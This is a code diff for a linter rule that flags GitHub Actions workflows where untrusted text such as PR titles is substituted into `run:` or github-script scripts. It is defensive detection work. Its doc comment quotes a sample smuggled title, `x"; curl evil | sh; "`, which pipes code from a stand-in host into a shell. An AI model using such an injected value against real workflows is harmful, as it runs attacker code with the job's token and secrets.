@@ -1,36 +1,51 @@
-import type { Finding } from '../finding';
+import type { Node } from 'yaml';
 import { expressionsIn } from '../expressions';
-import { findingAt, rawText } from '../source';
-import type { WorkflowView } from '../workflow';
+import { shown, type Finding } from '../finding';
+import { findingAt, rawText, scalarText } from '../source';
+import type { StepView, WorkflowView } from '../workflow';
 
 /**
- * `${{ }}` of text anyone can write (a PR title, a branch name, a comment, a commit message), inside `run:`. The runner
- * substitutes expressions into the script before the shell reads it, so a title such as `x"; curl evil | sh; "` runs
- * as code with the job's token and secrets. Passed through `env:` and used as "$TITLE", it stays data.
+ * `${{ }}` of text anyone can write (a PR title, a branch name, a comment, a commit message), inside a script: `run:`,
+ * or `actions/github-script`'s `script:`. The runner substitutes expressions into the script before the shell (or
+ * node) reads it, so a title such as `x"; curl evil | sh; "` runs as code with the job's token and secrets. Passed
+ * through `env:` and used as "$TITLE" (or `process.env.TITLE`), it stays data.
  */
 export function checkRunInjection(view: WorkflowView): Finding[] {
   const { source } = view;
   const findings: Finding[] = [];
   for (const job of view.jobs) {
     for (const step of job.steps) {
-      if (!step.run?.value) continue;
-      const raw = rawText(source, step.run.value);
+      const sink = scriptOf(view, step);
+      if (!sink) continue;
+      const raw = rawText(source, sink.node);
       for (const expression of expressionsIn(raw.text)) {
         const field = untrustedField(expression.body);
         if (field === undefined) continue;
         const name = envName(field);
+        const use = sink.kind === 'run' ? `"$${name}"` : `process.env.${name}`;
         findings.push(
           findingAt(
             source,
             raw.offset + expression.offset,
             'run-injection',
-            `\`${field}\` is text anyone opening a PR, issue or comment can write, substituted into the script before it runs: pass it through env: (${name}: \${{ ${field} }}) and use "$${name}"`,
+            `\`${shown(field)}\` is text anyone opening a PR, issue or comment can write, substituted into the ${sink.kind === 'run' ? 'script' : 'JavaScript'} before it runs: pass it through env: (${name}: \${{ ${shown(field)} }}) and use ${use}`,
           ),
         );
       }
     }
   }
   return findings;
+}
+
+const GITHUB_SCRIPT = /^actions\/github-script@/i;
+
+/** The script a step runs with expressions substituted in: its `run:`, or github-script's `with: script:`. */
+function scriptOf(view: WorkflowView, step: StepView): { kind: 'run' | 'github-script'; node: Node } | undefined {
+  if (step.run?.value) return { kind: 'run', node: step.run.value };
+  const uses = scalarText(view.source, step.uses?.value);
+  if (uses === undefined || !GITHUB_SCRIPT.test(uses.trim())) return undefined;
+  const script = step.with.find((e) => e.key === 'script')?.value;
+  return script ? { kind: 'github-script', node: script } : undefined;
 }
 
 const INDEX = String.raw`(?:\.\*|\[[^\]]*\])`;
@@ -54,10 +69,17 @@ const UNTRUSTED = new RegExp(
   ]
     .map((pattern) => `(?<![\\w.])${pattern}(?![\\w-])`)
     .join('|'),
+  'i',
 );
 
+/**
+ * The untrusted field an expression reads, in dotted form. Property access by index with a literal name is the same
+ * access (`github.event['pull_request']['title']` is `github.event.pull_request.title`), so it is folded into dots
+ * before matching; the match ignores case, as GitHub does for property names.
+ */
 function untrustedField(expression: string): string | undefined {
-  return UNTRUSTED.exec(expression)?.[0];
+  const dotted = expression.replace(/\s*\[\s*'([A-Za-z_][\w-]*)'\s*\]/g, '.$1');
+  return UNTRUSTED.exec(dotted)?.[0];
 }
 
 /** An environment variable name for the suggestion: `github.event.pull_request.title` → `TITLE`. */
